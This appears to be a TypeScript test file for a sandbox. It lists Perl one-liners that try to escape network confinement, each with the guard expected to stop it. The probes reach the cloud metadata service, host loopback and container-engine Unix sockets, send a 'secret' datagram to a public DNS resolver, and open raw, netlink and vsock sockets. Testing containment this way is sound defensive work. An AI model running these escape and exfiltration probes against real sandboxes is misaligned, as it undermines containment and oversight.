import { type Attempt, ERRNO, ESCAPED } from '../attempt.ts'

/** Perl that connects to an IPv4 or IPv6 address, or a Unix socket. */
const connect = (family: string, type: string, address: string): string =>
  `perl -MSocket=:all -e 'socket(S, ${family}, ${type}, 0) or die "socket errno=".($!+0)."\\n"; connect(S, ${address}) ? print "ESCAPED\\n" : print "errno=".($!+0)."\\n"'`

const tcp = (host: string, port: string): string =>
  connect('AF_INET', 'SOCK_STREAM', `pack_sockaddr_in(${port}, inet_aton("${host}"))`)
const tcp6 = (host: string, port: string): string =>
  connect('AF_INET6', 'SOCK_STREAM', `pack_sockaddr_in6(${port}, inet_pton(AF_INET6, "${host}"))`)

const socket = (family: number, type: number, protocol = 0): string =>
  `perl -e 'socket(S, ${family}, ${type}, ${protocol}) ? print "ESCAPED\\n" : print "errno=".($!+0)."\\n"'`

const family = (name: string, number: number, type: number, without?: RegExp, protocol = 0): Attempt => ({
  name: `open a ${name} socket`,
  tries: `socket of family ${number}`,
  guard: 'seccomp',
  program: socket(number, type, protocol),
  stopped: ERRNO.EAFNOSUPPORT,
  ...(without && { without: { guards: ['seccomp'] as const, prints: without } }),
})

/** Every way out by a socket. */
export const NETWORK: readonly Attempt[] = [
  {
    name: 'reach a service on the host’s loopback',
    tries: 'connects to 127.0.0.1',
    guard: 'network',
    program: tcp('127.0.0.1', '$ENV{PORT}'),
    stopped: ERRNO.ECONNREFUSED,
    without: { guards: ['network'], prints: ESCAPED },
  },
  {
    name: 'reach a service on the host’s loopback by IPv6',
    tries: 'connects to ::1',
    guard: 'network',
    program: tcp6('::1', '$ENV{PORT}'),
    stopped: /errno=(111|99|101)/,
  },
  {
    name: 'reach the internet',
    tries: 'connects to 1.1.1.1:443',
    guard: 'network',
    program: tcp('1.1.1.1', '443'),
    stopped: ERRNO.ENETUNREACH,
  },
  {
    name: 'reach the metadata service of a cloud',
    tries: 'connects to 169.254.169.254',
    guard: 'network',
    program: tcp('169.254.169.254', '80'),
    stopped: ERRNO.ENETUNREACH,
  },
  {
    name: 'reach the metadata service of a cloud by IPv6',
    tries: 'connects to fd00:ec2::254',
    guard: 'network',
    program: tcp6('fd00:ec2::254', '80'),
    stopped: /errno=(101|99)/,
  },
  {
    name: 'carry data out by DNS',
    tries: 'sends a datagram to port 53 of a public resolver',
    guard: 'network',
    program: `perl -MSocket=:all -e 'socket(S, AF_INET, SOCK_DGRAM, 0); send(S, "secret", 0, pack_sockaddr_in(53, inet_aton("8.8.8.8"))) ? print "ESCAPED\\n" : print "errno=".($!+0)."\\n"'`,
    stopped: ERRNO.ENETUNREACH,
  },
  {
    name: 'resolve a name',
    tries: 'asks the resolver of the system',
    guard: 'network',
    program: 'getent hosts example.org && echo ESCAPED || echo none',
    stopped: /^none$/m,
  },
  {
    name: 'reach a Unix socket of the host',
    tries: 'connects to its path, as to a container engine’s',
    guard: 'mounts',
    program: connect('AF_UNIX', 'SOCK_STREAM', 'pack_sockaddr_un($ENV{SOCKET})'),
    stopped: ERRNO.ENOENT,
    without: { guards: ['mounts'], prints: ESCAPED },
  },
  {
    name: 'reach an abstract Unix socket of the host',
    tries: 'connects to a name without a file',
    guard: 'network',
    program: connect('AF_UNIX', 'SOCK_STREAM', 'pack("Sa*", AF_UNIX, "\\0".$ENV{ABSTRACT})'),
    stopped: ERRNO.ECONNREFUSED,
    without: { guards: ['network'], prints: ESCAPED },
  },
  {
    name: 'forge packets',
    tries: 'a raw ICMP socket',
    guard: 'seccomp',
    program: socket(2, 3, 1),
    stopped: ERRNO.EPERM,
  },
  family('packet', 17, 3, /errno=1$/m, 768),
  family('netlink', 16, 3, ESCAPED),
  family('kernel audit', 16, 3, /ESCAPED|errno=93/, 9),
  family('vsock, to the hypervisor', 40, 1, ESCAPED),
  family('kernel crypto', 38, 5),
  family('key management', 15, 3, undefined, 2),
  family('Bluetooth', 31, 3, undefined, 1),
  family('CAN', 29, 3, undefined, 1),
  family('TIPC', 30, 1),
  family('XDP', 44, 3),
]
